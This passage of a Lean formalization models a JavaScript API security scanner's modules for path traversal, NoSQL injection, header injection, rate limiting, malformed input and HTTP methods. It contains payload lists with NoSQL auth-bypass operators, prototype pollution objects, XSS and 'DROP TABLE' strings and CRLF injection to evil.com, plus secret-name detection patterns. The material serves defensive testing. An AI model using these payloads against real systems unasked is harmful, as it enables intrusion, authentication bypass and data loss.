  litPe "[386Enh]" "/\\[386Enh\\]/i",
  litPe "MSDOS.SYS" "/MSDOS\\.SYS/i",
  litPe "IO.SYS" "/IO\\.SYS/i",
  litP "DB_PASSWORD",
  litP "DB_HOST",
  litP "API_KEY",
  litP "SECRET_KEY",
  litP "AWS_ACCESS",
  litP "MYSQL_PASSWORD",
  litP "POSTGRES_PASSWORD",
  csPat [optRE (chrRE '<'), litRE "php"] "/<?php/",
  csPat [optRE (chrRE '<'), litRE "xml"] "/<?xml/",
  litPcs "<?xml version" "/<\\?xml version/",
  litPcs "<!DOCTYPE" "/<!DOCTYPE/",
  litPcs "package.json" "/package\\.json/",
  litPcs "\"dependencies\"" "/\"dependencies\"/",
  litPcs "\"devDependencies\"" "/\"devDependencies\"/"]

/-- `errorPatterns` of the path traversal module, in source order. -/
def errorPatterns : List Pat := [
  litP "No such file or directory",
  litP "File not found",
  litP "Cannot find the file",
  litP "Access denied",
  litP "Permission denied",
  litP "failed to open stream",
  litPe "include(): Failed opening" "/include\\(\\): Failed opening/i",
  litPe "require(): Failed opening" "/require\\(\\): Failed opening/i",
  litPe "fopen(): failed" "/fopen\\(\\): failed/i",
  litPe "file_get_contents(): failed" "/file_get_contents\\(\\): failed/i",
  litP "is not a valid path",
  litP "Invalid file path",
  litP "Directory traversal",
  litP "Path traversal"]

def wafIndicators : List String := [
  "you have been blocked",
  "access denied",
  "forbidden",
  "request blocked",
  "firewall",
  "cloudflare",
  "akamai",
  "imperva",
  "waf",
  "attack detected",
  "malicious request",
  "path traversal",
  "directory traversal",
  "invalid request"]

def isWAFBlocked (response : Response) (responseBody : String) : Bool :=
  let bodyLower := lowerStr responseBody
  ((response.status == 403 || response.status == 406 || response.status == 429) &&
    wafIndicators.any (fun ind => containsStr bodyLower ind))
  || containsStr bodyLower "cloudflare ray id"

def analyzeResponse (response : Response) (payload : String) (originalStatus : Option Nat) : AnalysisResult :=
  let responseBody := response.data
  if isWAFBlocked response responseBody then
    { vulnerable := false, confidence := "high",
      indicators := ["✅ WAF/Firewall blocked the malicious request"],
      notes := "PROTECTED: WAF detected and blocked the path traversal attempt." }
  else if response.status == 400 || response.status == 403 || response.status == 404 then
    { vulnerable := false, confidence := "low",
      indicators := ["Request rejected/not found with status " ++ natStr response.status],
      notes := "SAFE: Path traversal was blocked or file not found" }
  else
    let r1 :=
      match fileContentPatterns.find? (fun p => testPat p responseBody) with
      | some p =>
        { initResult with
            vulnerable := true, confidence := "high",
            indicators := initResult.indicators ++ ["⚠️ System/config file content detected"],
            notes := "VULNERABLE: System file content found - " ++ jsSlice p.src 50 }
      | none => initResult
    let r2 :=
      if errorPatterns.any (fun p => testPat p responseBody) then
        if r1.vulnerable then r1
        else
          { r1 with
              indicators := r1.indicators ++ ["ℹ️ Path-related error message detected"],
              notes := "INFO: Error messages may indicate file system interaction" }
      else r1
    let contentType := (getHeader response.headers "content-type").getD ""
    let r3 :=
      if response.status == 200 &&
         (containsStr contentType "octet-stream" || containsStr contentType "application/pdf" ||
          containsStr contentType "image/") then
        { r2 with
            vulnerable := true, confidence := "medium",
            indicators := r2.indicators ++ ["⚠️ Binary file content returned"],
            notes := "SUSPICIOUS: Binary content returned - possible file disclosure" }
      else r2
    let r4 :=
      match originalStatus with
      | some os =>
        if response.status == 200 && os == 404 then
          { r3 with
              vulnerable := true, confidence := "medium",
              indicators := r3.indicators ++ ["⚠️ File found after path traversal"],
              notes := "VULNERABLE: Traversal payload changed 404 to 200" }
        else r3
      | none => r3
    if !r4.vulnerable then
      { r4 with
          indicators := r4.indicators ++ ["No path traversal indicators found"],
          notes := "SAFE: No system file content detected in response" }
    else r4

def getPayloads : List String := payloads.pathTraversal

def getType : String := "Path Traversal"

def getSeverity : String := "High"

end pathTraversal

/-! ### NoSQL / JSON injection scanner (`nosqlInjection.js`) -/

namespace nosqlInjection

def ciPat (res : List RE) (src : String) : Pat :=
  { re := seqRE res, ci := true, src := src }

def csPat (res : List RE) (src : String) : Pat :=
  { re := seqRE res, ci := false, src := src }

/-- The module's own payload list. -/
def nosqlPayloads : List String := [
  "\x7b\"$gt\": \"\"\x7d",
  "\x7b\"$ne\": null\x7d",
  "\x7b\"$ne\": \"\"\x7d",
  "\x7b\"$exists\": true\x7d",
  "\x7b\"$regex\": \".*\"\x7d",
  "\x7b\"$where\": \"1==1\"\x7d",
  "\x7b\"$or\": [\x7b\"a\": 1\x7d, \x7b\"b\": 2\x7d]\x7d",
  "\x7b\"username\": \x7b\"$ne\": null\x7d, \"password\": \x7b\"$ne\": null\x7d\x7d",
  "\x7b\"username\": \x7b\"$gt\": \"\"\x7d, \"password\": \x7b\"$gt\": \"\"\x7d\x7d",
  "\x7b\"$where\": \"this.password.length > 0\"\x7d",
  "\x7b\"$where\": \"function() \x7b return true; \x7d\"\x7d",
  "\x7b\"name\": \x7b\"$ne\": null\x7d\x7d",
  "\x7b\"debug\": \x7b\"$gt\": \"\"\x7d\x7d",
  "\x7b\"admin\": true\x7d",
  "\x7b\"role\": \"admin\"\x7d",
  "\x7b\"isAdmin\": true, \"__proto__\": \x7b\"admin\": true\x7d\x7d",
  "\x7b\"__proto__\": \x7b\"admin\": true\x7d\x7d",
  "\x7b\"constructor\": \x7b\"prototype\": \x7b\"admin\": true\x7d\x7d\x7d",
  "\x7b\"__proto__\": \x7b\"isAdmin\": true\x7d\x7d",
  "\x7b\"$in\": [1, 2, 3]\x7d",
  "\x7b\"ids\": \x7b\"$in\": [1, 2, 3, 4, 5]\x7d\x7d",
  "true, $where: \"1 == 1\"",
  "1, $or: [\x7b\x7d, \x7b\"a\": \"a\"\x7d]",
  "\x27; return true; var dummy=\x27",
  "1; return true",
  "1\x27; return true; var x=\x27",
  "function() \x7b return true; \x7d"]

/-- `vulnerabilityPatterns`, in source order. -/
def vulnerabilityPatterns : List Pat := [
  litP "mongodb",
  litP "mongoose",
  litP "bson",
  litP "objectid",
  litP "cannot read property",
  litP "unexpected token",
  ciPat [litRE "syntaxerror", dotStarRE, litRE "json"] "/syntaxerror.*json/i",
  ciPat [litRE "cast", dotStarRE, litRE "error"] "/cast.*error/i",
  ciPat [litRE "invalid", dotStarRE, litRE "operator"] "/invalid.*operator/i",
  litPe "$where" "/\\$where/i",
  litPe "$regex" "/\\$regex/i",
  ciPat [litRE "query", dotStarRE, litRE "failed"] "/query.*failed/i"]

/-- `successPatterns`, in source order. -/
def successPatterns : List Pat := [
  ciPat [litRE "\"_id\"", RE.star wsRE, chrRE ':'] "/\"_id\"\\s*:/i",
  ciPat [litRE "\"password\"", RE.star wsRE, chrRE ':'] "/\"password\"\\s*:/i",
  ciPat [litRE "\"email\"", RE.star wsRE, chrRE ':'] "/\"email\"\\s*:/i",
  csPat [litRE "[\"", dotStarRE, litRE "\"]"] "/\\[\".*\"\\]/",
  csPat [litRE "\x7b\"", dotStarRE, litRE "\":", dotStarRE, chrRE (Char.ofNat 125)] "/\\\x7b\".*\":.*\\\x7d/"]

/-- The auth-bypass body check `/token|session|jwt|success|authenticated/i`. -/
def authBodyPat : Pat :=
  { re := altsRE [litRE "token", litRE "session", litRE "jwt", litRE "success", litRE "authenticated"],
    ci := true,
    src := "/token|session|jwt|success|authenticated/i" }

def wafIndicators : List String := [
  "you have been blocked",
  "access denied",
  "forbidden",
  "firewall",
  "cloudflare",
  "waf",
  "attack detected",
  "malicious"]

def isWAFBlocked (response : Response) (responseBody : String) : Bool :=
  let bodyLower := lowerStr responseBody
  ((response.status == 403 || response.status == 406 || response.status == 429) &&
    wafIndicators.any (fun ind => containsStr bodyLower ind))
  || containsStr bodyLower "cloudflare ray id"

def analyzeResponse (response : Response) (payload : String) (originalStatus : Option Nat) : AnalysisResult :=
  let responseBody := response.data
  if isWAFBlocked response responseBody then
    { initResult with
        indicators := ["✅ WAF/Firewall blocked the request"],
        notes := "PROTECTED: Request was blocked by security controls" }
  else if 400 ≤ response.status && response.status < 500 then
    { initResult with
        indicators := ["Request rejected with status " ++ natStr response.status],
        notes := "SAFE: Server rejected the malformed request" }
  else
    let r1 :=
      if vulnerabilityPatterns.any (fun p => testPat p responseBody) then
        { initResult with
            vulnerable := true, confidence := "high",
            indicators := initResult.indicators ++ ["⚠️ NoSQL/MongoDB error message detected"],
            notes := "VULNERABLE: Database error exposed in response" }
      else initResult
    let r2 :=
      if response.status == 200 && successPatterns.any (fun p => testPat p responseBody) &&
         responseBody.length > 500 && containsStr payload "$ne" then
        { r1 with
            vulnerable := true, confidence := "medium",
            indicators := r1.indicators ++ ["⚠️ Potential data leakage with NoSQL operators"],
            notes := "SUSPICIOUS: Large response with injection payload" }
      else r1
    let r3 :=
      if (containsStr payload "$ne" || containsStr payload "$gt") &&
         response.status == 200 && testPat authBodyPat responseBody then
        { r2 with
            vulnerable := true, confidence := "high",
            indicators := r2.indicators ++ ["⚠️ Potential authentication bypass"],
            notes := "VULNERABLE: NoSQL injection may have bypassed authentication" }
      else r2
    if !r3.vulnerable then
      { r3 with
          indicators := r3.indicators ++ ["No NoSQL injection indicators found"],
          notes := "SAFE: No NoSQL injection vulnerabilities detected" }
    else r3

def getPayloads : List String := nosqlPayloads

def getType : String := "NoSQL Injection"

def getSeverity : String := "Critical"

end nosqlInjection

/-! ### Header injection scanner (`headerInjection.js`) -/

namespace headerInjection

/-- The module's own payload list. -/
def headerPayloads : List String := [
  "<script>alert(1)</script>",
  "\"><img src=x onerror=alert(1)>",
  "\x27 OR \x271\x27=\x271",
  "\x27; DROP TABLE users; \x2d-",
  "7.0.1; DROP TABLE users",
  "test\r\nSet-Cookie: malicious=value",
  "test%0d%0aSet-Cookie: evil=true",
  "%0d%0aLocation: http://evil.com",
  "evil.com",
  "127.0.0.1",
  "localhost"]

def wafIndicators : List String := [
  "you have been blocked",
  "access denied",
  "forbidden",
  "firewall",
  "cloudflare",
  "waf",
  "attack detected",
  "malicious"]

def isWAFBlocked (response : Response) (responseBody : String) : Bool :=
  let bodyLower := lowerStr responseBody
  ((response.status == 403 || response.status == 406 || response.status == 429) &&
    wafIndicators.any (fun ind => containsStr bodyLower ind))
  || containsStr bodyLower "cloudflare ray id"

def analyzeResponse (response : Response) (payload : String) (originalStatus : Option Nat) : AnalysisResult :=
  let responseBody := response.data
  let responseHeaders := response.headers
  if isWAFBlocked response responseBody then
    { initResult with
        indicators := ["✅ WAF/Firewall blocked the request"],
        notes := "PROTECTED: Header manipulation was blocked" }
  else
    let r1 :=
      if containsStr payload "%0d%0a" || containsStr payload "\r\n" then
        match getHeader responseHeaders "set-cookie" with
        | some setCookie =>
          if setCookie != "" && (containsStr setCookie "malicious" || containsStr setCookie "evil") then
            { initResult with
                vulnerable := true, confidence := "high",
                indicators := initResult.indicators ++ ["⚠️ CRLF Injection - Response splitting successful"],
                notes := "VULNERABLE: Attacker can inject arbitrary headers" }
          else initResult
        | none => initResult
      else initResult
    let r2 :=
      if (containsStr payload "<script>" || containsStr payload "onerror=") &&
         containsStr responseBody payload then
        { r1 with
            vulnerable := true, confidence := "high",
            indicators := r1.indicators ++ ["⚠️ Header value reflected in response (XSS)"],
            notes := "VULNERABLE: Header value reflected without sanitization" }
      else r1
    let r3 :=
      if (payload == "evil.com" || containsStr payload "127.0.0.1") &&
         containsStr responseBody payload then
        { r2 with
            vulnerable := true, confidence := "high",
            indicators := r2.indicators ++ ["⚠️ Host header value reflected in response"],
            notes := "VULNERABLE: Host header is used unsafely in response" }
      else r2
    if !r3.vulnerable then
      { r3 with
          indicators := r3.indicators ++ ["Header injection payload rejected or not reflected"],
          notes := "SAFE: No header injection vulnerabilities detected" }
    else r3

def getPayloads : List String := headerPayloads

def getType : String := "Header Injection"

def getSeverity : String := "High"

end headerInjection

/-! ### Rate limiting scanner (`rateLimiting.js`) -/

namespace rateLimiting

def wafIndicators : List String := [
  "you have been blocked",
  "access denied",
  "forbidden",
  "firewall",
  "cloudflare",
  "waf",
  "rate limit",
  "too many requests",
  "throttle",
  "slow down",
  "try again later"]

/-- Unlike the other modules, the status check alone suffices here and the
indicator check is unconditional on the status. -/
def isWAFBlocked (response : Response) (responseBody : String) : Bool :=
  let bodyLower := lowerStr responseBody
  (response.status == 403 || response.status == 429 || response.status == 503)
  || wafIndicators.any (fun ind => containsStr bodyLower ind)

def rateLimitHeaders : List String := [
  "x-ratelimit-limit",
  "x-ratelimit-remaining",
  "x-ratelimit-reset",
  "retry-after",
  "x-rate-limit-limit",
  "ratelimit-limit"]

def analyzeResponse (response : Response) (payload : String) (originalStatus : Option Nat)
    (responseTime : Option Nat) : AnalysisResult :=
  let responseBody := response.data
  if response.status == 429 then
    { vulnerable := false, confidence := "high",
      indicators := ["✅ Rate limiting is active (429 Too Many Requests)"],
      notes := "PROTECTED: Server properly implements rate limiting" }
  else if isWAFBlocked response responseBody then
    { vulnerable := false, confidence := "high",
      indicators := ["✅ Bot/DDoS protection is active"],
      notes := "PROTECTED: Server has anti-bot/rate limiting measures" }
  else
    let foundRateLimitHeaders :=
      rateLimitHeaders.filter (fun h => jsTruthyOpt (getHeader response.headers h))
    if foundRateLimitHeaders.length > 0 then
      let remaining :=
        match getHeader response.headers "x-ratelimit-remaining" with
        | some s => if s != "" then some s else getHeader response.headers "x-rate-limit-remaining"
        | none => getHeader response.headers "x-rate-limit-remaining"
      let r1 :=
        { initResult with
            indicators := ["ℹ️ Rate limit headers present: " ++ joinComma foundRateLimitHeaders] }
      let r2 :=
        match remaining with
        | some v => { r1 with indicators := r1.indicators ++ ["Remaining requests: " ++ v] }
        | none => r1
      { r2 with notes := "INFO: Rate limiting headers detected - server may have protection" }
    else if response.status == 200 then
      { initResult with
          indicators := ["⚠️ No rate limit headers in response"],
          notes := "WARNING: Consider implementing rate limiting for this endpoint" }
    else initResult

def getPayloads : List String := ["rate_limit_test_1", "rate_limit_test_2", "rate_limit_test_3"]

def getType : String := "Rate Limiting"

def getSeverity : String := "Medium"

end rateLimiting

/-! ### Malformed payload scanner (`malformedPayload.js`) -/

namespace malformedPayload

def ciPat (res : List RE) (src : String) : Pat :=
  { re := seqRE res, ci := true, src := src }

/-- The module's own payload list. -/
def malformedPayloads : List String := [
  "\x7b \"name\": 123,, \"xyz\": \x7d",
  "\x7b\"unclosed\": \"string",
  "\x7bname: \"no quotes\"\x7d",
  "\x7b\"trailing\": \"comma\",\x7d",
  "",
  "\x7b\x7d",
  "[]",
  "null",
  "\x7b\"name\": 12345\x7d",
  "\x7b\"age\": \"twenty\"\x7d",
  "\x7b\"active\": \"yes\"\x7d",
  "\x7b\"items\": \"not-array\"\x7d",
  "\x7b\"count\": -1\x7d",
  "\x7b\"count\": 999999999999\x7d",
  "\x7b\"id\": -999999\x7d",
  "\x7b\"name\": \"\\u0000\\u0001\"\x7d",
  "\x7b\"name\": \"test\\ninjection\"\x7d",
  "\x7b\"name\": \"😀🎉🔥\"\x7d",
  "\x7b\"name\": \"中文测试\"\x7d",
  "\x7b\"a\":\x7b\"b\":\x7b\"c\":\x7b\"d\":\x7b\"e\":\x7b\"f\":\"deep\"\x7d\x7d\x7d\x7d\x7d\x7d"]

/-- `verboseErrorPatterns`, in source order. -/
def verboseErrorPatterns : List Pat := [
  ciPat [litRE "stack", RE.star wsRE, litRE "trace"] "/stack\\s*trace/i",
  ciPat [litRE "at", plusRE wsRE, plusRE wordRE, plusRE wsRE, chrRE '('] "/at\\s+\\w+\\s+\\(/i",
  litP "exception",
  ciPat [litRE "error", dotStarRE, litRE "line", RE.star wsRE, plusRE digitRE] "/error.*line\\s*\\d+/i",
  ciPat [litRE "syntax", dotStarRE, litRE "error"] "/syntax.*error/i",
  ciPat [litRE "undefined", dotStarRE, litRE "property"] "/undefined.*property/i",
  ciPat [litRE "cannot", plusRE wsRE, litRE "read"] "/cannot\\s+read/i",
  ciPat [litRE "type", dotStarRE, litRE "error"] "/type.*error/i",
  ciPat [litRE "internal", plusRE wsRE, litRE "server", plusRE wsRE, litRE "error"] "/internal\\s+server\\s+error/i",
  ciPat [litRE ".js:", plusRE digitRE, chrRE ':', plusRE digitRE] "/\\.js:\\d+:\\d+/i",
  litP "node_modules"]

/-- This analyzer has no WAF short-circuit at all. -/
def analyzeResponse (response : Response) (payload : String) (originalStatus : Option Nat) : AnalysisResult :=
  let responseBody := response.data
  if response.status == 400 then
    let r1 :=
      { initResult with
          indicators := ["✅ Server returns 400 Bad Request for malformed data"],
          notes := "GOOD: Server properly validates input" }
    if verboseErrorPatterns.any (fun p => testPat p responseBody) then
      { r1 with
          indicators := r1.indicators ++ ["⚠️ Error response contains verbose debug information"],
          notes := "WARNING: Error messages may leak implementation details" }
    else r1
  else if response.status == 500 then
    let r1 :=
      { initResult with
          vulnerable := true, confidence := "medium",
          indicators := ["⚠️ Server crashed with 500 error"],
          notes := "VULNERABLE: Malformed input causes server error" }
    if verboseErrorPatterns.any (fun p => testPat p responseBody) then
      { r1 with
          confidence := "high",
          indicators := r1.indicators ++ ["⚠️ Stack trace or debug info exposed"],
          notes := "VULNERABLE: Server exposes internal error details" }
    else r1
  else
    let r1 :=
      if verboseErrorPatterns.any (fun p => testPat p responseBody) then
        { initResult with
            vulnerable := true, confidence := "medium",
            indicators := initResult.indicators ++ ["⚠️ Verbose error information detected"],
            notes := "VULNERABLE: Server exposes implementation details" }
      else initResult
    if !r1.vulnerable then
      { r1 with
          indicators := r1.indicators ++ ["Server handled malformed payload gracefully"],
          notes := "SAFE: Server responded with " ++ natStr response.status }
    else r1

def getPayloads : List String := malformedPayloads

def getType : String := "Malformed Payload"

def getSeverity : String := "Low"

end malformedPayload

/-! ### HTTP method scanner (`httpMethodTest.js`) -/

namespace httpMethodTest

def upperStr (s : String) : String := String.mk (s.toList.map Char.toUpper)

def httpMethods : List String :=
  ["TRACE", "OPTIONS", "PUT", "DELETE", "PATCH", "CONNECT", "PROPFIND", "DEBUG"]

def webdavMethods : List String := ["PROPFIND", "PROPPATCH", "MKCOL", "COPY", "MOVE"]

def dangerousMethods : List String := ["TRACE", "TRACK", "DEBUG"]

/-- This analyzer has no WAF short-circuit at all. -/
def analyzeResponse (response : Response) (payload : String) (originalStatus : Option Nat) : AnalysisResult :=
  let responseHeaders := response.headers
  let testedMethod := payload
  if response.status == 405 then
    let r1 :=
      { initResult with
          indicators := ["✅ Server properly rejects " ++ testedMethod ++ " with 405"],
          notes := "GOOD: Server enforces allowed HTTP methods" }
    match getHeader responseHeaders "allow" with
    | some allow =>
      if allow != "" then
        { r1 with indicators := r1.indicators ++ ["Allowed methods: " ++ allow] }
      else r1
    | none => r1
  else if (testedMethod == "TRACE" || testedMethod == "TRACK") && response.status == 200 then
    { initResult with
        vulnerable := true, confidence := "high",
        indicators := ["⚠️ " ++ testedMethod ++ " method is enabled"],
        notes := "VULNERABLE: TRACE enabled - Cross-Site Tracing (XST) possible" }
  else
    let r1 :=
      if testedMethod == "OPTIONS" && (response.status == 200 || response.status == 204) then
        let r2 := { initResult with indicators := ["ℹ️ OPTIONS method is allowed"] }
        let r3 :=
          match getHeader responseHeaders "allow" with
          | some allow =>
            if allow != "" then
              let r4 := { r2 with indicators := r2.indicators ++ ["Allowed: " ++ allow] }
              let allowedDangerous :=
                dangerousMethods.filter (fun m => containsStr (upperStr allow) m)
              if allowedDangerous.length > 0 then
                { r4 with
                    vulnerable := true, confidence := "medium",
                    indicators := r4.indicators ++
                      ["⚠️ Dangerous methods allowed: " ++ joinComma allowedDangerous],
                    notes := "WARNING: Review allowed HTTP methods" }
              else r4
            else r2
          | none => r2
        if r3.notes == "" then { r3 with notes := "INFO: OPTIONS reveals allowed methods" } else r3
      else initResult
    let r5 :=
      if webdavMethods.contains testedMethod && (response.status == 200 || response.status == 207) then
        { r1 with
            vulnerable := true, confidence := "high",
            indicators := r1.indicators ++ ["⚠️ WebDAV method " ++ testedMethod ++ " is enabled"],
            notes := "VULNERABLE: WebDAV methods should be disabled" }
      else r1
    let r6 :=
      if testedMethod == "DEBUG" && response.status == 200 then
        { r5 with
            vulnerable := true, confidence := "high",
            indicators := r5.indicators ++ ["⚠️ DEBUG method is enabled"],
            notes := "VULNERABLE: Debug endpoint exposed" }
      else r5
    if r6.indicators.length == 0 then
      { r6 with
          indicators := [testedMethod ++ " method returned " ++ natStr response.status],
          notes := "SAFE: Server handled HTTP method appropriately" }
    else r6

def getPayloads : List String := httpMethods

def getType : String := "HTTP Method"

def getSeverity : String := "Medium"

end httpMethodTest

/-! ### Payload size scanner (first module of `payloadSize.js`) -/

namespace payloadSize

def generateLargePayload (size : Nat) : String := String.mk (List.replicate size 'A')

def sizeTests : List String :=
  ["500_chars", "1000_chars", "5000_chars", "10000_chars", "50000_chars"]

/-- `getPayloadValue`: the JSON serialization of `\x7bdata: <A-run>\x7d`. -/
def getPayloadValue (sizeDesc : String) : String :=
  let v :=
    if sizeDesc == "500_chars" then generateLargePayload 500
    else if sizeDesc == "1000_chars" then generateLargePayload 1000
    else if sizeDesc == "5000_chars" then generateLargePayload 5000
    else if sizeDesc == "10000_chars" then generateLargePayload 10000
    else if sizeDesc == "50000_chars" then generateLargePayload 50000
    else generateLargePayload 1000
  "\x7b\"data\":\"" ++ v ++ "\"\x7d"

/-- This analyzer has no WAF short-circuit at all. -/
def analyzeResponse (response : Response) (payload : String) (originalStatus : Option Nat)
    (responseTime : Option Nat) : AnalysisResult :=
  if response.status == 413 then
    { initResult with
        indicators := ["✅ Server returns 413 Payload Too Large"],
        notes := "GOOD: Server enforces payload size limits" }
  else if response.status == 400 then
    { initResult with
        indicators := ["✅ Server rejects oversized payload with 400"],
        notes := "GOOD: Server validates input size" }
  else if response.status == 408 || response.status == 504 then
    { initResult with
        vulnerable := true, confidence := "medium",
        indicators := ["⚠️ Request timed out with large payload"],
        notes := "VULNERABLE: Large payloads may cause DoS" }
  else if response.status == 500 || response.status == 502 || response.status == 503 then
    { initResult with
        vulnerable := true, confidence := "high",
        indicators := ["⚠️ Server error with large payload"],
        notes := "VULNERABLE: Large payload causes server error - DoS vector" }
  else
    let rtTruthy := match responseTime with | some t => t != 0 | none => false
    let rt := responseTime.getD 0
    let r1 :=
      if rtTruthy && rt > 10000 then
        { initResult with
            vulnerable := true, confidence := "medium",
            indicators := initResult.indicators ++ ["⚠️ Very slow response: " ++ natStr rt ++ "ms"],
            notes := "VULNERABLE: Large payloads cause significant slowdown" }
      else if rtTruthy && rt > 5000 then
        { initResult with
            indicators := initResult.indicators ++ ["ℹ️ Slow response: " ++ natStr rt ++ "ms"],
            notes := "WARNING: Large payloads cause noticeable slowdown" }
      else initResult
    if response.status == 200 then
      { r1 with
          indicators := r1.indicators ++ ["Server accepted " ++ payload ++ " payload"],
          notes := "SAFE: Server handled large payload" }
    else r1

def getPayloads : List String := sizeTests

def getType : String := "Payload Size"

def getSeverity : String := "Medium"

end payloadSize

/-! ### Endpoint descriptors and the injection strategy (`scanner/index.js`) -/

/-- A JS request body: absent (`null`), a structured mapping, or a raw string. -/
inductive BodyVal where
  | nul : BodyVal
  | obj : List (String × String) → BodyVal
  | str : String → BodyVal
deriving DecidableEq

/-- JS truthiness of a body value (`null` and `""` are falsy, objects truthy). -/
def BodyVal.truthy : BodyVal → Bool
  | .nul => false
  | .obj _ => true
  | .str s => s != ""

/-- An endpoint descriptor; injected variants carry an `injectionPoint` label.
Mappings are insertion-ordered association lists, as JS object keys are. -/
structure Endpoint where
  name : String
  method : String
  url : String
  headers : List (String × String)
  body : BodyVal
  queryParams : List (String × String)
  injectionPoint : Option String := none
deriving DecidableEq

/-- JS `obj[k] = v` on a string map: replaces in place if the key exists
(keeping insertion order), else appends. -/
def setAssoc (l : List (String × String)) (k v : String) : List (String × String) :=
  if l.any (fun p => p.1 == k) then l.map (fun p => if p.1 == k then (k, v) else p)
  else l ++ [(k, v)]

/-- The characters `encodeURIComponent` leaves unescaped. -/
def uriUnreserved (c : Char) : Bool :=
  c.isAlphanum || c == '-' || c == '_' || c == '.' || c == '!' || c == '~' ||
  c == '*' || c == Char.ofNat 39 || c == '(' || c == ')'

def hexDigitU (n : Nat) : Char := if n < 10 then Char.ofNat (48 + n) else Char.ofNat (55 + n)

def pctEncodeByte (b : Nat) : List Char := ['%', hexDigitU (b / 16), hexDigitU (b % 16)]

/-- JS `encodeURIComponent`. -/
def encodeURIComponent (s : String) : String :=
  String.mk (s.toList.foldr
    (fun c acc =>
      (if uriUnreserved c then [c] else (utf8Bytes c.toNat).foldr (fun b a => pctEncodeByte b ++ a) []) ++ acc)
    [])

/-- JS `url.endsWith("/")` (kernel-reducible single-character version). -/
def jsEndsWithSlash (s : String) : Bool :=
  match s.toList.getLast? with
  | some c => c == '/'
  | none => false

/-- `injectPayload(endpoint, payload, location)`: the injection strategy,
emitting deep-copied variants in source order.  Since the embedding is
value-semantic, the JS `JSON.parse(JSON.stringify(...))` deep copies are
ordinary values here: no variant can share mutable state with its source or
its siblings. -/
def injectPayload (endpoint : Endpoint) (payload : String) (location : String) : List Endpoint :=
  let queryVariants :=
    if location == "query" || location == "all" then
      (endpoint.queryParams.map (fun kv =>
        { endpoint with
            queryParams := setAssoc endpoint.queryParams kv.1 payload,
            injectionPoint := some ("Query param: " ++ kv.1) })) ++
      [{ endpoint with
           queryParams := setAssoc endpoint.queryParams "q" payload,
           injectionPoint := some "Query param: q (injected)" }]
    else []
  let bodyVariants :=
    if location == "body" || location == "all" then
      (match endpoint.body with
       | .obj fields =>
         fields.map (fun kv =>
           { endpoint with
               body := .obj (setAssoc fields kv.1 payload),
               injectionPoint := some ("Body param: " ++ kv.1) })
       | _ => []) ++
      (if ["POST", "PUT", "PATCH"].contains endpoint.method then
        [{ endpoint with
             body := (match endpoint.body with
                      | .obj fields => .obj (setAssoc fields "input" payload)
                      | _ => .obj [("input", payload)]),
             injectionPoint := some "Body param: input (injected)" }]
      else [])
    else []
  let headerVariants :=
    if location == "header" || location == "all" then
      [{ endpoint with
           headers := setAssoc endpoint.headers "X-Test-Input" payload,
           injectionPoint := some "Header: X-Test-Input (injected)" }]
    else []
  let pathVariants :=
    if location == "path" || location == "all" then
      [{ endpoint with
           url := (if jsEndsWithSlash endpoint.url then endpoint.url else endpoint.url ++ "/") ++
                  encodeURIComponent payload,
           injectionPoint := some "URL path (appended)" }]
    else []
  let injectedEndpoints := queryVariants ++ bodyVariants ++ headerVariants ++ pathVariants
  if injectedEndpoints.isEmpty then
    [{ endpoint with
         queryParams := setAssoc endpoint.queryParams "test" payload,
         injectionPoint := some "Query param: test (fallback)" }]
  else injectedEndpoints

/-! ### Request dispatcher (`sendRequest`) -/

/-- The form-urlencoding used by JS `URLSearchParams.toString()`:
alphanumerics and `*-._` stay, a space becomes `+`, everything else is
percent-encoded from its UTF-8 bytes. -/
def formEncode (s : String) : String :=
  String.mk (s.toList.foldr
    (fun c acc =>
      (if c.isAlphanum || c == '*' || c == '-' || c == '.' || c == '_' then [c]
       else if c == ' ' then ['+']
       else (utf8Bytes c.toNat).foldr (fun b a => pctEncodeByte b ++ a) []) ++ acc)
    [])

/-- `new URLSearchParams(queryParams).toString()`. -/
def urlSearchParams (l : List (String × String)) : String :=
  String.intercalate "&" (l.map (fun p => formEncode p.1 ++ "=" ++ formEncode p.2))

/-- The URL `sendRequest` dispatches: scheme defaulted to `https`, query
parameters appended. -/
def buildUrl (endpoint : Endpoint) : String :=
  let url := endpoint.url
  let url := if !(url.startsWith "http://") && !(url.startsWith "https://") then "https://" ++ url else url
  if endpoint.queryParams.length > 0 then
    let separator := if containsStr url "?" then "&" else "?"
    url ++ separator ++ urlSearchParams endpoint.queryParams
  else url

/-- The axios request configuration `sendRequest` builds (the constant
`validateStatus: () => true` is represented by the oracle producing an `ok`
outcome for every HTTP status). -/
structure RequestConfig where
  method : String
  url : String
  headers : List (String × String)
  data : Option BodyVal
  timeout : Nat
  maxRedirects : Nat
deriving DecidableEq

/-- JS object spread `\x7b ...defaults, ...endpoint.headers \x7d`. -/
def spreadAssoc (base l : List (String × String)) : List (String × String) :=
  l.foldl (fun acc p => setAssoc acc p.1 p.2) base

def requestConfig (endpoint : Endpoint) : RequestConfig :=
  let headers := spreadAssoc [("User-Agent", "API-Security-Scanner/1.0"), ("Accept", "*/*")] endpoint.headers
  let hasBody := endpoint.body.truthy && ["POST", "PUT", "PATCH"].contains endpoint.method
  let headers :=
    if hasBody && !(jsTruthyOpt (getHeader headers "Content-Type")) then
      setAssoc headers "Content-Type"
        (match endpoint.body with
         | .obj _ => "application/json"
         | _ => "application/x-www-form-urlencoded")
    else headers
  { method := if endpoint.method != "" then endpoint.method else "GET",
    url := buildUrl endpoint,
    headers := headers,
    data := if hasBody then some endpoint.body else none,
    timeout := 15000,
    maxRedirects := 5 }

/-- One axios outcome: a response (any HTTP status, since `validateStatus`
accepts all), or a transport failure carrying an error code, a message, an
optional partial response, and the elapsed time. -/
inductive AxiosOutcome where
  | ok : Response → Nat → AxiosOutcome
  | fail : Option String → String → Option Response → Nat → AxiosOutcome

/-- The network oracle: what axios does for each dispatched configuration. -/
def Net : Type := RequestConfig → AxiosOutcome

/-- What `sendRequest` resolves with. -/
structure SendResult where
  success : Bool
  response : Response
  responseTime : Nat
  error : Option String
deriving DecidableEq

/-- `sendRequest(endpoint)`: always resolves; a transport failure is caught
and classified (`ECONNREFUSED`, `ETIMEDOUT`, generic), with status 0 when the
error carries no HTTP response. -/
def sendRequest (net : Net) (endpoint : Endpoint) : SendResult :=
  match net (requestConfig endpoint) with
  | .ok r t => { success := true, response := r, responseTime := t, error := none }
  | .fail code msg errResp t =>
    { success := false,
      response :=
        { status := match errResp with | some r => r.status | none => 0,
          data := match errResp with | some r => if r.data != "" then r.data else msg | none => msg,
          headers := match errResp with | some r => r.headers | none => [] },
      responseTime := t,
      error := some (if code == some "ECONNREFUSED" then "Connection refused - server may be down"
